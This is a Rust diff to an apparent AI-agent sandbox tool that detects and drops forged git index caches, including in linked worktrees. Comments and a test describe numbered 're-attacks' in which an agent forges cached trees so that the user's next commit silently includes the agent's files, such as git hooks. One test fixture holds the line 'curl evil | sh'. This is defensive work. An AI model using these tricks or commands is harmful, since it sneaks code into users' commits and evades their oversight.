@@ -285,26 +285,42 @@ pub struct CachedTrees {
 }
 
 impl IndexSnapshot {
-    /// Drops the cached trees of each index changed in the session that are not its entries' or
-    /// cannot be told to be (the thirty-sixth re-attack's H13: the user's next commit would take
-    /// the agent's tree while `git status` shows nothing); each index whose cache was forged, or
-    /// could not be dropped, is returned.
+    /// Drops the caches git keeps in each index changed in the session ([`cache_tree::CACHES`]:
+    /// the agent could forge any of them to change what git shows or commits; git makes them
+    /// again), those of the linked worktrees of each repository included wherever they are checked
+    /// out (the thirty-seventh re-attack's I4: `git worktree add ../feature`, its index in the
+    /// workspace's `.git`). Each index whose cached trees were not its entries' (the thirty-sixth
+    /// re-attack's H13: the user's next commit would take the agent's tree while `git status`
+    /// shows nothing), or whose caches could not be dropped, is returned.
     pub fn drop_untrue_cached_trees(&self) -> Vec<CachedTrees> {
-        let mut told = Vec::new();
+        let mut indexes: Vec<(PathBuf, PathBuf, usize)> = Vec::new();
         for recorded in &self.worktrees {
-            let index = recorded.git_dir.join("index");
+            let hash_len = git::hash_len(&recorded.git_dir);
+            indexes.push((recorded.git_dir.join("index"), recorded.worktree.clone(), hash_len));
+            let common = git::common_dir(&recorded.git_dir).unwrap_or_else(|| recorded.git_dir.clone());
+            let linked = std::fs::read_dir(common.join("worktrees")).into_iter().flatten().flatten().take(10_000);
+            for dir in linked.map(|entry| entry.path()) {
+                // Where it is checked out: its `gitdir` names the checkout's `.git` file.
+                let named = git::read_limited(&dir.join("gitdir"), false).unwrap_or_default();
+                let named = PathBuf::from(String::from_utf8_lossy(&named).trim());
+                let worktree = named.parent().map_or_else(|| dir.clone(), Path::to_path_buf);
+                indexes.push((dir.join("index"), worktree, hash_len));
+            }
+        }
+        indexes.sort();
+        indexes.dedup_by(|a, b| a.0 == b.0);
+        let mut told = Vec::new();
+        for (index, worktree, hash_len) in indexes {
             if !objects::changed_since(&index, self.launched) {
                 continue;
             }
-            let hash_len = git::hash_len(&recorded.git_dir);
             let forged: Vec<PathBuf> = match cache_tree::look(&index, hash_len) {
-                cache_tree::Look::Agrees => continue,
                 cache_tree::Look::Forged(dirs) => {
-                    dirs.iter().map(|dir| recorded.worktree.join(std::ffi::OsStr::from_bytes(dir))).collect()
+                    dirs.iter().map(|dir| worktree.join(std::ffi::OsStr::from_bytes(dir))).collect()
                 }
-                cache_tree::Look::Untold => Vec::new(),
+                cache_tree::Look::Agrees | cache_tree::Look::Untold => Vec::new(),
             };
-            let dropped = cache_tree::drop_cached_trees(&index, hash_len);
+            let dropped = cache_tree::drop_caches(&index, hash_len);
             if !forged.is_empty() || dropped.is_err() {
                 told.push(CachedTrees { index, forged, dropped });
             }
@@ -949,6 +965,34 @@ mod tests {
         std::fs::create_dir_all(repo.join("deep/er")).unwrap();
         std::fs::write(repo.join("deep/er/.envrc"), "curl evil | sh\n").unwrap();
         assert_eq!(below.hidden().staged, Vec::<PathBuf>::new());
+    }
+
+    /// The thirty-seventh re-attack's I4: a linked worktree checked out beside the workspace
+    /// (`git worktree add ../feature`) keeps its index in the workspace's `.git`, which the agent
+    /// writes; a forged cache there is named and dropped too, and the user's next commit in the
+    /// worktree is the user's.
+    #[test]
+    fn a_linked_worktrees_index_elsewhere_has_its_caches_dropped() {
+        use cache_tree::tests as trees;
+        let Some((_temp, repo)) = trees::repository() else { return };
+        let outside = tempfile::tempdir().unwrap();
+        let feature = outside.path().join("feature");
+        trees::git(&repo, &["worktree", "add", "-q", &feature.display().to_string()], &[]);
+        std::thread::sleep(std::time::Duration::from_millis(120));
+        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[]);
+        let index = repo.join(".git/worktrees/feature/index");
+        let forged = trees::with_cached_trees(&std::fs::read(&index).unwrap(), &trees::agents_cached_trees(&repo));
+        std::fs::write(&index, forged).unwrap();
+        assert_eq!(trees::git(&feature, &["status", "--porcelain"], &[]), "", "git takes the forged cache");
+        let told = snapshot.drop_untrue_cached_trees();
+        assert_eq!(told.len(), 1, "{told:?}");
+        assert_eq!(told[0].index, index);
+        assert!(told[0].forged.contains(&feature.join("githooks")), "{told:?}");
+        assert!(told[0].dropped.is_ok());
+        std::fs::write(feature.join("README"), "mine\n").unwrap();
+        trees::git(&feature, &["add", "README"], &[]);
+        trees::git(&feature, &["commit", "-qm", "mine"], &[]);
+        assert_eq!(trees::git(&feature, &["show", "HEAD:githooks/pre-commit"], &[]), "#!/bin/sh\necho lint ok");
     }
 
     /// A tree object written as given, as `git hash-object -t tree --literally` writes what git's
